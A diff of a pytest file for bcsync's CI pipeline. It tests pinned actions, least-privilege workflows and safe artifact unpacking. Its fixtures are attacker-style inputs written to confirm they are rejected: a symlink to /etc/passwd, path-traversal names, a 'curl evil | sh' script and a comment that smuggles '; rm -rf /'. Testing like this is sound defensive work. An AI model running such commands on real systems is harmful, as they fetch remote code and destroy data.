@@ -1,17 +1,18 @@
-"""The CI pipeline's shell steps (examples/ci/scripts), run locally against the local BC.
-
-GitHub cannot be reached from here: a small fake `gh` on PATH keeps pull-request comments in a
-JSON file and records every call. The workflows and action.yml are parsed and checked to run
-only scripts that exist.
+"""The CI pipeline's pieces: the drift script's exit codes, the artifact helpers (as an attacker
+would fill an artifact), and the workflow files' shape (pinned, least permissions, no secret
+where pull-request code runs). The whole workflow is rehearsed in test_ci_rehearsal.py.
 """
 
 from __future__ import annotations
 
+import io
 import json
 import os
 import re
 import subprocess
 import sys
+import tarfile
+import zipfile
 from pathlib import Path
 from typing import Any
 
@@ -26,246 +27,40 @@ pytestmark = pytest.mark.slow
 
 SCRIPTS = ROOT / "examples" / "ci" / "scripts"
 WORKFLOWS = sorted((ROOT / "examples" / "ci").glob("*.yml"))
-CHECKSUM = re.compile(r"Checksum:[*_ ]*`?(sha256:[0-9a-f]{64})")
-
-FAKE_GH = r'''#!PYTHON
-"""A fake `gh api` for the few REST calls the scripts make; state in $FAKE_GH_STATE."""
-import json, os, sys
-
-path = os.environ["FAKE_GH_STATE"]
-state = json.load(open(path))
-args = sys.argv[1:]
-state["calls"].append(args)
-assert args[0] == "api", args
-method, fields, rest = "GET", {}, []
-i = 1
-while i < len(args):
-    if args[i] == "-X":
-        method, i = args[i + 1], i + 2
-    elif args[i] == "-F":
-        key, value = args[i + 1].split("=", 1)
-        fields[key] = open(value[1:]).read() if value.startswith("@") else value
-        i += 2
-    elif args[i] == "--paginate":
-        i += 1
-    else:
-        rest.append(args[i])
-        i += 1
-parts = rest[0].split("/")
-out = None
-if parts[3:5] == ["issues", "comments"] and method == "PATCH":
-    for comments in state["comments"].values():
-        for c in comments:
-            if str(c["id"]) == parts[5]:
-                c["body"] = fields["body"]
-                out = c
-elif parts[3] == "issues" and method == "POST":
-    state["next_id"] += 1
-    c = {"id": state["next_id"], "body": fields["body"], "user": {"login": state["login"]}}
-    state["comments"].setdefault(parts[4], []).append(c)
-    out = c
-elif parts[3] == "issues":
-    comments = state["comments"].get(parts[4], [])
-    # Two comments a page, to exercise --paginate's one-array-per-page output.
-    pages = [comments[i : i + 2] for i in range(0, len(comments), 2)] or [[]]
-    out = None
-    sys.stdout.write("".join(json.dumps(p) for p in pages))
-elif parts[3] == "commits":
-    out = [{"number": n} for n in state["pulls"].get(parts[4], [])]
-json.dump(state, open(path, "w"))
-if out is not None:
-    sys.stdout.write(json.dumps(out))
-'''
+GITHUB_PY = SCRIPTS / "github.py"
+PINNED = re.compile(r"[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}")
 
 
-class Pipeline:
-    """A repository of configs with a fake GitHub, to run the CI scripts in."""
-
-    def __init__(self, tmp: Path) -> None:
-        self.repo = tmp / "repo"
-        copy_example("quickstart", self.repo / "bcsync")
-        self.bin = tmp / "bin"
-        self.bin.mkdir()
-        gh = self.bin / "gh"
-        gh.write_text(FAKE_GH.replace("PYTHON", sys.executable))
-        gh.chmod(0o755)
-        self.state_file = tmp / "gh.json"
-        self.outputs = tmp / "outputs.txt"
-        self.summary = tmp / "summary.md"
-        self.write_state(
-            {
-                "comments": {},
-                "pulls": {},
-                "calls": [],
-                "next_id": 100,
-                "login": "github-actions[bot]",
-            }
-        )
-        self.env = {
-            **os.environ,
-            "PATH": f"{self.bin}{os.pathsep}{os.environ['PATH']}",
+def run_script(script: str, tmp: Path, **env: str) -> tuple[subprocess.CompletedProcess[str], Path]:
+    """A CI script in a copy of the quickstart (no GitHub: GITHUB_REPOSITORY unset)."""
+    repo = tmp / "repo"
+    if not repo.exists():
+        copy_example("quickstart", repo / "bcsync")
+    summary = tmp / "summary.md"
+    environ = {k: v for k, v in os.environ.items() if k not in {"GH_TOKEN", "GITHUB_REPOSITORY"}}
+    done = subprocess.run(
+        ["bash", str(SCRIPTS / script)],
+        cwd=repo,
+        env={
+            **environ,
             # -P: the repository's bcsync/ config directory must not shadow the package.
             "BCSYNC": f"{sys.executable} -P -m bcsync",
             "BCSYNC_PATHS": "bcsync/bcsync.yaml",
-            "GITHUB_REPOSITORY": "acme/permissions",
-            "GITHUB_OUTPUT": str(self.outputs),
-            "GITHUB_STEP_SUMMARY": str(self.summary),
-            "GH_TOKEN": "gh-test-token",
+            "GITHUB_STEP_SUMMARY": str(summary),
             "NO_COLOR": "1",
-        }
-
-    @property
-    def config(self) -> Path:
-        return self.repo / "bcsync" / "bcsync.yaml"
-
-    def read_state(self) -> dict[str, Any]:
-        return dict(json.loads(self.state_file.read_text()))
-
-    def write_state(self, state: dict[str, Any]) -> None:
-        self.state_file.write_text(json.dumps(state))
-        self.env_extra = {"FAKE_GH_STATE": str(self.state_file)}
-
-    def run(self, script: str, **env: str) -> subprocess.CompletedProcess[str]:
-        return subprocess.run(
-            ["bash", str(SCRIPTS / script)],
-            cwd=self.repo,
-            env={**self.env, **self.env_extra, **env},
-            capture_output=True,
-            text=True,
-            timeout=300,
-        )
-
-    def bcsync(self, *args: str) -> subprocess.CompletedProcess[str]:
-        return subprocess.run(
-            [sys.executable, "-P", "-m", "bcsync", *args],
-            cwd=self.repo,
-            env=self.env,
-            capture_output=True,
-            text=True,
-            timeout=300,
-        )
-
-    def comments(self, pr: str = "7") -> list[dict[str, Any]]:
-        return list(self.read_state()["comments"].get(pr, []))
-
-    def methods(self) -> list[str]:
-        return [c[c.index("-X") + 1] for c in self.read_state()["calls"] if "-X" in c]
-
-
-@pytest.fixture
-def pipeline(tmp_path: Path) -> Pipeline:
-    return Pipeline(tmp_path)
-
-
-def test_the_plan_comment_is_created_once_then_updated_in_place(pipeline: Pipeline) -> None:
-    first = pipeline.run("plan.sh", PR_NUMBER="7", GITHUB_SHA="c0ffee1")
-    assert first.returncode == 0, first.stderr  # changes pending is a success for a PR
-    (comment,) = pipeline.comments()
-    assert comment["body"].startswith("<!-- bcsync-plan: bcsync/bcsync.yaml -->")
-    checksum = CHECKSUM.search(comment["body"])
-    assert checksum is not None
-    assert f"checksum={checksum.group(1)}" in pipeline.outputs.read_text()
-    # A second push changes the plan: the same comment is rewritten, no second one appears.
-    text = pipeline.config.read_text()
-    pipeline.config.write_text(
-        text.replace(
-            "ops@acme.com: { role: admin }", "ops@acme.com: { role: admin, finance_role: analyst }"
-        )
-    )
-    second = pipeline.run("plan.sh", PR_NUMBER="7", GITHUB_SHA="c0ffee2")
-    assert second.returncode == 0, second.stderr
-    (updated,) = pipeline.comments()
-    assert updated["id"] == comment["id"] and updated["body"] != comment["body"]
-    assert "c0ffee2" in updated["body"]
-    assert pipeline.methods() == ["POST", "PATCH"]
-
-
-def test_a_refused_plan_is_still_posted_then_fails_the_job(pipeline: Pipeline) -> None:
-    # The plan removes more entries than max_removals allows: refused (exit 4).
-    text = pipeline.config.read_text()
-    pipeline.config.write_text(text.replace("max_removals: 25%", "max_removals: 1"))
-    result = pipeline.run("plan.sh", PR_NUMBER="7")
-    assert result.returncode == 4, result.stderr
-    (comment,) = pipeline.comments()
-    assert "Refused (exit 4)" in comment["body"]
-    assert "max_removals" in comment["body"]
-    assert CHECKSUM.search(comment["body"])
-
-
-def test_an_invalid_config_is_still_posted(pipeline: Pipeline) -> None:
-    pipeline.config.write_text(pipeline.config.read_text().replace("role: admin }", "role: boss }"))
-    result = pipeline.run("plan.sh", PR_NUMBER="7")
-    assert result.returncode == 3
-    (comment,) = pipeline.comments()
-    assert "configuration is invalid (exit 3)" in comment["body"]
-    assert "boss" in comment["body"]
-
-
-def test_merge_applies_exactly_the_reviewed_plan(pipeline: Pipeline) -> None:
-    assert pipeline.run("plan.sh", PR_NUMBER="7").returncode == 0
-    reviewed = CHECKSUM.search(pipeline.comments()[0]["body"])
-    assert reviewed is not None
-    state = pipeline.read_state()
-    state["pulls"]["m3rg3"] = [7]
-    pipeline.write_state(state)
-    result = pipeline.run("apply.sh", GITHUB_SHA="m3rg3")
-    assert result.returncode == 0, result.stdout + result.stderr
-    assert f"Applying the reviewed plan {reviewed.group(1)}" in result.stdout
-    after = pipeline.bcsync("plan", "--detailed-exitcode", "bcsync/bcsync.yaml")
-    assert after.returncode == 0, after.stdout  # only invitations wait
-
-
-def test_merge_refuses_when_the_plan_changed_after_review(pipeline: Pipeline) -> None:
-    assert pipeline.run("plan.sh", PR_NUMBER="7").returncode == 0
-    # Another change lands in the config after the review (or the BC changed meanwhile).
-    text = pipeline.config.read_text()
-    pipeline.config.write_text(
-        text.replace("dave@acme.com:\n    role: admin", "dave@acme.com:\n    role: standard")
-    )
-    before = pipeline.bcsync("plan", "bcsync/bcsync.yaml").stdout
-    result = pipeline.run("apply.sh", PR_NUMBER="7")
-    assert result.returncode == 4, result.stdout + result.stderr
-    assert "plan again" in result.stderr
-    assert pipeline.bcsync("plan", "bcsync/bcsync.yaml").stdout == before  # nothing applied
-
-
-def test_merge_trusts_only_the_bots_comment(pipeline: Pipeline) -> None:
-    assert pipeline.bcsync("plan", "bcsync/bcsync.yaml").returncode == 0
-    forged = pipeline.bcsync("plan", "bcsync/bcsync.yaml").stdout
-    state = pipeline.read_state()
-    state["login"] = "mallory"
-    pipeline.write_state(state)
-    body = pipeline.repo / "forged.md"
-    body.write_text("<!-- bcsync-plan: bcsync/bcsync.yaml -->\n" + forged)
-    subprocess.run(
-        [
-            "gh",
-            "api",
-            "-X",
-            "POST",
-            "repos/acme/permissions/issues/7/comments",
-            "-F",
-            f"body=@{body}",
-        ],
-        env={**pipeline.env, **pipeline.env_extra},
-        check=True,
+            **env,
+        },
         capture_output=True,
+        text=True,
+        timeout=300,
     )
-    result = pipeline.run("apply.sh", PR_NUMBER="7")
-    assert result.returncode == 4
-    assert "no bcsync plan comment" in result.stderr
+    return done, summary
 
 
-def test_merge_without_a_pull_request_refuses(pipeline: Pipeline) -> None:
-    result = pipeline.run("apply.sh", GITHUB_SHA="d1r3ct")
-    assert result.returncode == 4
-    assert "no pull request" in result.stderr
-
-
-def test_drift_on_the_untouched_seed_needs_attention(pipeline: Pipeline) -> None:
-    result = pipeline.run("drift.sh", BCSYNC_EXPIRING_WITHIN="1d")
+def test_drift_on_the_untouched_seed_needs_attention(tmp_path: Path) -> None:
+    result, summary = run_script("drift.sh", tmp_path, BCSYNC_EXPIRING_WITHIN="1d")
     assert result.returncode == 2, result.stdout + result.stderr
-    assert pipeline.summary.read_text().strip()
+    assert "mallory@acme.com" in summary.read_text()
 
 
 @pytest.mark.parametrize(
@@ -273,17 +68,17 @@ def test_drift_on_the_untouched_seed_needs_attention(pipeline: Pipeline) -> None
     [(0, 0, 0), (2, 0, 2), (0, 2, 2), (2, 2, 2), (1, 2, 1), (0, 3, 3)],
 )
 def test_drift_combines_exit_codes(
-    pipeline: Pipeline, drift: int, expiring: int, expected: int
+    tmp_path: Path, drift: int, expiring: int, expected: int
 ) -> None:
-    fake = pipeline.bin / "fake-bcsync"
+    fake = tmp_path / "fake-bcsync"
     fake.write_text(
         '#!/usr/bin/env bash\necho "$@"\n'
         f'case "$1" in drift) exit {drift};; expiring) exit {expiring};; esac\n'
     )
     fake.chmod(0o755)
-    result = pipeline.run("drift.sh", BCSYNC=str(fake))
+    result, summary = run_script("drift.sh", tmp_path, BCSYNC=str(fake))
     assert result.returncode == expected
-    assert "expiring bcsync/bcsync.yaml --within 30d" in pipeline.summary.read_text()
+    assert "expiring bcsync/bcsync.yaml --within 30d" in summary.read_text()
 
 
 # --- the workflow files ----------------------------------------------------------------------
@@ -299,39 +94,186 @@ def test_the_action_runs_scripts_that_exist() -> None:
     action = load_yaml(ROOT / "action.yml")
     assert action["runs"]["using"] == "composite"
     run = "\n".join(s.get("run", "") for s in action["runs"]["steps"])
-    commands = re.search(r"^\s*([a-z]+(?: \| [a-z]+)*)\) exec bash", run, re.M)
+    commands = re.search(r"^\s*([a-z-]+(?: \| [a-z-]+)*)\) exec bash", run, re.M)
     assert commands is not None
+    assert set(commands.group(1).split(" | ")) == {"plan", "apply", "drift", "audit-push"}
     for command in commands.group(1).split(" | "):
         script = SCRIPTS / f"{command}.sh"
         assert script.is_file() and os.access(script, os.X_OK), script
     assert "examples/ci/scripts/$BCSYNC_COMMAND.sh" in run
-    assert '"$GITHUB_ACTION_PATH"' in run and (ROOT / "pyproject.toml").is_file()
+    # Dependencies only from the hashed lock; bcsync itself without resolving anything.
+    assert "--require-hashes --no-deps" in run and "requirements.lock" in run
+    assert "--no-deps --no-build-isolation" in run and "--no-index" in run
     # Inputs reach the shell through env, never pasted into the script text.
     assert "${{" not in run
 
 
+def events_of(workflow: dict[Any, Any]) -> dict[str, Any]:
+    return dict(workflow[True] if True in workflow else workflow["on"])  # yaml 1.1: `on` is True
+
+
+def uses_of(path: Path) -> list[str]:
+    data = load_yaml(path)
+    jobs = data.get("jobs", {}).values() if "jobs" in data else [{"steps": data["runs"]["steps"]}]
+    return [str(step["uses"]) for job in jobs for step in job["steps"] if "uses" in step]
+
+
+@pytest.mark.parametrize("path", [*WORKFLOWS, ROOT / "action.yml"], ids=lambda p: p.name)
+def test_every_action_is_pinned_to_a_full_commit(path: Path) -> None:
+    for uses in uses_of(path):
+        assert PINNED.fullmatch(uses), uses
+
+
+def test_bcsync_is_pinned_once() -> None:
+    refs = {u for u in uses_of(ROOT / "examples/ci/github-actions.yml") if "/bcsync@" in u}
+    assert len(refs) == 1, refs
+
+
 @pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
-def test_workflows_use_only_known_commands_and_guard_the_token(path: Path) -> None:
+def test_workflows_keep_secrets_away_from_pull_request_code(path: Path) -> None:
     workflow = load_yaml(path)
-    events = workflow[True] if True in workflow else workflow["on"]  # yaml 1.1 reads `on` as True
+    events = events_of(workflow)
     assert "pull_request_target" not in events
+    assert workflow.get("permissions") == {}, "workflow-level permissions: none"
     for name, job in workflow["jobs"].items():
-        steps = job["steps"]
         text = yaml.safe_dump(job)
-        for step in steps:
-            if str(step.get("uses", "")).startswith("OWNER/bcsync@"):
-                command = str(step["with"]["command"])
-                assert set(re.findall(r"(?:&&|\|\|)\s*'([a-z]+)'", command)) <= {
-                    "plan",
-                    "apply",
-                    "drift",
-                } or (command in {"plan", "apply", "drift"}), command
+        assert "permissions" in job, f"{name}: explicit least permissions"
+        assert "write-all" not in text and "read-all" not in text
+        for step in job["steps"]:
+            if str(step.get("uses", "")).startswith("actions/checkout@"):
+                assert step["with"]["persist-credentials"] is False, name
+        if "pull_request" in events:
+            # The unprivileged half: no secret, no environment, nothing it may write.
+            assert "secrets." not in text and "environment" not in job, name
+            assert set(job["permissions"].values()) <= {"read"}, name
         if "secrets." in text:
-            assert job.get("environment") == "bcsync", name
-            condition = str(job.get("if", ""))
-            assert "head.repo.full_name == github.repository" in condition or (
-                "pull_request" not in condition
-            ), name
+            assert job.get("environment") in {"bcsync", "bcsync-plan"}, name
+            assert "pull_request" not in events, name
+
+
+def test_the_privileged_plan_job_reads_the_event_not_the_artifact() -> None:
+    workflow = load_yaml(ROOT / "examples/ci/github-actions.yml")
+    assert events_of(workflow)["workflow_run"]["workflows"] == ["bcsync pull request"]
+    assert load_yaml(ROOT / "examples/ci/pull-request.yml")["name"] == "bcsync pull request"
+    plan = workflow["jobs"]["plan"]
+    assert "github.event.workflow_run.event == 'pull_request'" in plan["if"]
+    (checkout,) = [
+        s for s in plan["steps"] if str(s.get("uses", "")).startswith("actions/checkout")
+    ]
+    assert "ref" not in checkout["with"]  # the default branch, never the pull request's head
+    action = load_yaml(ROOT / "action.yml")
+    env = action["runs"]["steps"][-1]["env"]
+    assert env["PR_NUMBER"] == "${{ github.event.workflow_run.pull_requests[0].number }}"
+    assert env["HEAD_SHA"] == "${{ github.event.workflow_run.head_sha }}"
+    # The apply job's audit records reach the branch through a job without the token.
+    audit = workflow["jobs"]["audit"]
+    assert "secrets." not in yaml.safe_dump(audit) and audit["permissions"] == {"contents": "write"}
+
+
+def github_py(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, str(GITHUB_PY), *args],
+        input=stdin,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+
+
+def configs_artifact(tmp: Path, members: dict[str, tuple[bytes, str]]) -> Path:
+    """A bcsync-configs artifact as a branch's workflow might upload it: any tar it likes."""
+    tar_path = tmp / "configs.tar"
+    with tarfile.open(tar_path, "w") as tar:
+        for name, (data, kind) in members.items():
+            info = tarfile.TarInfo(name)
+            if kind == "symlink":
+                info.type, info.linkname = tarfile.SYMTYPE, data.decode()
+                tar.addfile(info)
+            else:
+                info.size = len(data)
+                tar.addfile(info, io.BytesIO(data))
+    archive = tmp / "artifact.zip"
+    with zipfile.ZipFile(archive, "w") as zf:
+        zf.write(tar_path, "configs.tar")
+    return archive
+
+
+@pytest.mark.parametrize(
+    ("members", "paths", "why"),
+    [
+        ({"bcsync/acme.yaml": (b"/etc/passwd", "symlink")}, ["bcsync/acme.yaml"], "regular file"),
+        ({"bcsync/other.yaml": (b"x", "file")}, ["bcsync/acme.yaml"], "not in the pull request"),
+        ({"../x.yaml": (b"x", "file")}, ["../x.yaml"], "relative, inside"),
+        ({"/tmp/x.yaml": (b"x", "file")}, ["/tmp/x.yaml"], "relative, inside"),
+        (
+            {"bcsync/acme.yaml": (b"x" * (8 * 1024 * 1024 + 1), "file")},
+            ["bcsync/acme.yaml"],
+            "bytes",
+        ),
+    ],
+    ids=["symlink", "missing", "dot-dot", "absolute", "oversized"],
+)
+def test_unpack_takes_only_named_regular_files(
+    tmp_path: Path, members: dict[str, tuple[bytes, str]], paths: list[str], why: str
+) -> None:
+    checkout = tmp_path / "checkout"
+    (checkout / "bcsync").mkdir(parents=True)
+    (checkout / "bcsync" / "acme.yaml").write_text("main's config\n")
+    result = github_py("unpack", str(configs_artifact(tmp_path, members)), str(checkout), *paths)
+    assert result.returncode == 3 and why in result.stderr
+    assert (checkout / "bcsync" / "acme.yaml").read_text() == "main's config\n"
+
+
+def test_unpack_copies_the_named_configs_and_nothing_else(tmp_path: Path) -> None:
+    checkout = tmp_path / "checkout"
+    members = {
+        "bcsync/acme.yaml": (b"the pull request's config\n", "file"),
+        "examples/ci/scripts/plan.sh": (b"curl evil | sh\n", "file"),
+    }
+    artifact = configs_artifact(tmp_path, members)
+    result = github_py("unpack", str(artifact), str(checkout), "bcsync/acme.yaml")
+    assert result.returncode == 0, result.stderr
+    assert (checkout / "bcsync/acme.yaml").read_text() == "the pull request's config\n"
+    assert not (checkout / "examples").exists()
+
+
+@pytest.mark.parametrize(
+    ("body", "run"),
+    [
+        ("<!-- bcsync-plan: x -->\n<!-- bcsync-plan-run: 42 -->\n### plan", "42"),
+        ("<!-- bcsync-plan: x -->\n### plan\n\n\n<!-- bcsync-plan-run: 42 -->", ""),
+        ("<!-- bcsync-plan-run: 1 -->\n<!-- bcsync-plan-run: 2 -->", ""),
+        ("<!-- bcsync-plan: x -->\n<!-- bcsync-plan-run: 42; rm -rf / -->", ""),
+    ],
+    ids=["ours", "too-far-down", "two", "not-a-number"],
+)
+def test_the_plan_run_is_read_from_the_comment_head_only(body: str, run: str) -> None:
+    assert github_py("plan-run", stdin=body).stdout.strip() == run
+
+
+@pytest.mark.parametrize(
+    ("run", "trusted"),
+    [
+        ({"id": 1, "event": "workflow_run", "path": ".github/workflows/bcsync.yml"}, True),
+        ({"id": 2, "event": "pull_request", "path": ".github/workflows/bcsync.yml"}, False),
+        ({"id": 3, "event": "workflow_run", "path": ".github/workflows/other.yml"}, False),
+    ],
+)
+def test_the_reviewed_plan_comes_only_from_the_privileged_workflow(
+    run: dict[str, Any], trusted: bool
+) -> None:
+    result = github_py("trusted-run", ".github/workflows/bcsync.yml", stdin=json.dumps(run))
+    assert (result.returncode == 0) is trusted
+
+
+def test_merged_pr_is_the_one_that_merged_this_commit() -> None:
+    pulls = [
+        {"number": 3, "merge_commit_sha": "b" * 40, "merged_at": "x", "head": {"sha": "1" * 40}},
+        {"number": 4, "merge_commit_sha": "a" * 40, "merged_at": None, "head": {"sha": "2" * 40}},
+        {"number": 5, "merge_commit_sha": "a" * 40, "merged_at": "x", "head": {"sha": "3" * 40}},
+    ]
+    result = github_py("merged-pr", "a" * 40, stdin=json.dumps(pulls[:2]) + json.dumps(pulls[2:]))
+    assert result.stdout.split() == ["5", "3" * 40]
 
 
 def test_the_scripts_parse() -> None:
@@ -352,3 +294,10 @@ def test_pre_commit_hooks_name_real_commands() -> None:
             hook["files"], "bcsync.yaml"
         )
         assert not re.search(hook["files"], "src/app.yaml")
+
+
+def test_the_jobs_list_the_same_configs_in_the_same_order() -> None:
+    # apply fetches plan's artifact, and audit apply's, by matrix index.
+    jobs = load_yaml(ROOT / "examples/ci/github-actions.yml")["jobs"]
+    lists = {name: job["strategy"]["matrix"]["config"] for name, job in jobs.items()}
+    assert lists["plan"] == lists["apply"] == lists["audit"] == lists["drift"]
